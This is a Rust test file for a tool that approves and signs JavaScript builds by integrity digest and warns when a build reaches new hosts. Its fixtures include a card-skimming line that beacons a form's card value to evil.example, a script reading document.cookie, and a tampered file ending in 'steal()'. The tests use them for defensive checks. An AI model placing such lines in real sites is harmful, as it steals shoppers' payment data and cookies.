//! A build approved as a whole: by the command, in tags, and as its files pass.

use serde_json::Value;

use super::commands::{run, stderr, stdout};
use super::folder::Folder;
use countersign::policy::{Visit, load_folder};
use countersign::sri::{Algorithm, Digest};
use url::Url;

const POLICY: &str = r#"hosts = ["shop.example"]
upstreams = ["http://127.0.0.1:3000"]

[[build]]
id = "front"
at = "/static/"
files = ["/static/app.:hash.js"]
why = "The shop itself"

[[script]]
id = "chat"
url = "https://cdn.example/chat.js"
tier = "mirror"
why = "Chat"
"#;

fn shop() -> Folder {
    let folder = Folder::empty();
    folder.write("policies/shop.toml", POLICY);
    folder.write("dist/app.1.js", "import './chunks/a b.js'; fetch('https://api.shop.example/cart')");
    folder.write("dist/chunks/a b.js", "export const a = document.cookie");
    folder.write("dist/empty.js", "");
    folder.write("dist/app.1.js.map", "{}");
    folder
}

fn approve(folder: &Folder, more: &[&str]) -> (Option<i32>, String, Value) {
    let fixed = ["approve", "front", "--because", "build 17", "--yes", "--json"];
    let output = run(folder, &[&fixed[..], more].concat(), "");
    let json = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
    (output.status.code(), stderr(&output), json)
}

fn digest(code: &str) -> Digest {
    Digest::of(Algorithm::Sha384, code.as_bytes())
}

#[test]
fn all_of_a_build_is_approved_by_one_entry_and_counts_in_tags_and_in_transit() {
    let folder = shop();
    let (code, said, json) = approve(&folder, &["--from", "dist"]);
    assert_eq!(code, Some(0), "{said}");
    for told in [
        "files   2 under /static/",
        "names hosts: https://api.shop.example",
        "cookies",
        "approved 2 files of `front`",
    ] {
        assert!(said.contains(told), "{told}: {said}");
    }
    assert_eq!(json["outcome"], "approved");
    assert_eq!(json["build"]["new_or_changed"].as_array().unwrap().len(), 2, "{json}");
    assert_eq!(folder.read("policies/shop.lock").matches("[[approval]]").count(), 1);

    let snapshot = load_folder(&folder.join("policies"), None, 1).unwrap().snapshot;
    let site = snapshot.site("shop.example").unwrap();
    let grants = site.grants("/", Visit::enforced(jiff::Timestamp::UNIX_EPOCH));
    let page = Url::parse("https://shop.example/").unwrap();
    let found = |path: &str| {
        grants.scripts.find(&page.join(path).unwrap(), &page).map(|script| script.integrity.clone())
    };
    let app = digest("import './chunks/a b.js'; fetch('https://api.shop.example/cart')");
    assert_eq!(found("/static/app.1.js"), Some(app.to_string()));
    assert_eq!(found("/static/chunks/a%20b.js"), None, "pages may name the build's `files` only");
    let own = |path: &str| -> Vec<Digest> {
        let scripts = site.own_bytes.at(&page.join(path).unwrap());
        scripts.into_iter().flat_map(|script| script.digests.clone()).collect()
    };
    assert_eq!(own("/static/app.1.js?v=3"), [app]);
    assert_eq!(own("/static/chunks/a%20b.js"), [digest("export const a = document.cookie")]);
    assert!(own("/static/empty.js").is_empty() && own("/app.1.js").is_empty());
    let watched: Vec<String> = site.external_scripts().map(|script| script.id.to_string()).collect();
    assert_eq!(watched, ["chat"], "the files of a build are looked at as they pass");
}

#[test]
fn the_next_build_shows_what_is_new_and_ends_the_one_before_if_that_is_said() {
    let folder = shop();
    assert_eq!(approve(&folder, &["--from", "dist"]).0, Some(0));
    let (code, said, json) = approve(&folder, &["--from", "dist"]);
    assert_eq!((code, json["outcome"].as_str()), (Some(0), Some("already-approved")), "{said}");

    std::fs::remove_file(folder.join("dist/app.1.js")).unwrap();
    folder.write(
        "dist/app.2.js",
        "navigator.sendBeacon('https://evil.example/', document.forms[0].card.value)",
    );
    let (code, said, json) = approve(&folder, &["--from", "dist"]);
    assert_eq!(code, Some(0), "{said}");
    for told in [
        "1 as approved before, 1 new or changed, 1 gone",
        "NEW: it reaches",
        "names hosts: https://evil.example",
    ] {
        assert!(said.contains(told), "{told}: {said}");
    }
    assert_eq!(json["build"]["gone"], serde_json::json!(["app.1.js"]));
    let named = |path: &str| {
        let loaded = load_folder(&folder.join("policies"), None, 1).unwrap();
        let site = loaded.snapshot.site("shop.example").unwrap();
        site.own_bytes.at(&Url::parse(&format!("https://shop.example{path}")).unwrap()).len()
    };
    assert_eq!(
        [named("/static/app.1.js"), named("/static/app.2.js")],
        [1, 1],
        "both releases are served for a while"
    );
    let (code, said, _) = approve(&folder, &["--from", "dist", "--replace"]);
    assert_eq!(code, Some(0), "{said}");
    assert_eq!([named("/static/app.1.js"), named("/static/app.2.js")], [0, 1]);
}

#[test]
fn a_file_that_is_not_what_its_bundler_made_is_not_approved() {
    let folder = shop();
    let entry = |name: &str, digest: &Digest| {
        format!("{{\"src/main.ts\":{{\"file\":\"{name}\",\"integrity\":\"{digest}\"}}}}")
    };
    let app = folder.read("dist/app.1.js");
    folder.write("dist/.vite/manifest.json", entry("app.1.js", &digest(&app)));
    let (code, said, json) = approve(&folder, &["--from", "dist"]);
    assert_eq!(code, Some(0), "{said}");
    assert!(said.contains("1 files have the integrity that .vite/manifest.json says"), "{said}");
    assert_eq!(json["manifests"][0]["names"], serde_json::json!(["app.1.js"]));

    folder.write("dist/app.1.js", format!("{app};steal()"));
    let (code, said, _) = approve(&folder, &["--from", "dist"]);
    assert_eq!(code, Some(1), "{said}");
    assert!(
        said.contains("is not the file that its bundler made, by the integrity in .vite/manifest.json"),
        "{said}"
    );
}

#[test]
fn two_people_sign_a_build_as_they_sign_a_script_and_the_second_sees_it_too() {
    let folder = shop();
    let mut settings = "quorum = 2\n".to_owned();
    for name in ["alice", "bob"] {
        let file = format!("{name}.pem");
        settings += &stdout(&run(&folder, &["key", "new", "--out", &file, "--name", name], ""));
    }
    folder.write("countersign.toml", settings);
    let signed = ["--config", "countersign.toml", "--key", "alice.pem"];
    let (code, said, _) = approve(&folder, &[&["--from", "dist"][..], &signed].concat());
    assert_eq!(code, Some(0), "{said}");
    assert!(said.contains("it does not count until 1 more of the approvers have signed it"), "{said}");
    let check = || stdout(&run(&folder, &["check", "policies", "--config", "countersign.toml"], ""));
    assert!(check().contains("2 approvers must sign it, and only alice did"), "{}", check());
    let cosign =
        ["approve", "front", "--cosign", "--yes", "--config", "countersign.toml", "--key", "bob.pem"];
    let output = run(&folder, &cosign, "");
    let said = stderr(&output);
    assert_eq!(output.status.code(), Some(0), "{said}");
    assert!(
        said.contains("files   2 under /static/") && said.contains("names hosts: https://api.shop.example"),
        "{said}"
    );
    assert!(!check().contains("must sign it"), "{}", check());
}

#[test]
fn what_is_no_build_or_lies_elsewhere_is_refused_with_a_way_out() {
    let folder = shop();
    std::fs::create_dir(folder.join("nothing")).unwrap();
    for (arguments, code, why) in [
        (&["front", "--from", "nothing"][..], 1, "there is no JavaScript (.js, .mjs, .cjs) in nothing"),
        (&["front", "--from", "missing"], 2, "missing: "),
        (&["front", "--from", "dist", "--at", "/other/"], 2, "are served under `/static/`"),
        (&["front", "--from", "dist", "--at", "/static/deep"], 2, "with `/` at both ends"),
        (
            &["front", "--file", "dist/app.1.js"],
            2,
            "`front` is a [[build]]: say where its files are, with --from DIR",
        ),
        (&["chat", "--from", "dist"], 2, "`chat` is no [[build]]: leave --from out"),
    ] {
        let output =
            run(&folder, &[&["approve", "--because", "a test", "--yes"][..], arguments].concat(), "");
        let said = stderr(&output);
        assert_eq!(output.status.code(), Some(code), "{arguments:?}: {said}");
        assert!(said.contains(why), "{arguments:?}: {said}");
        assert!(!folder.join("policies/shop.lock").exists(), "{arguments:?}");
    }
}
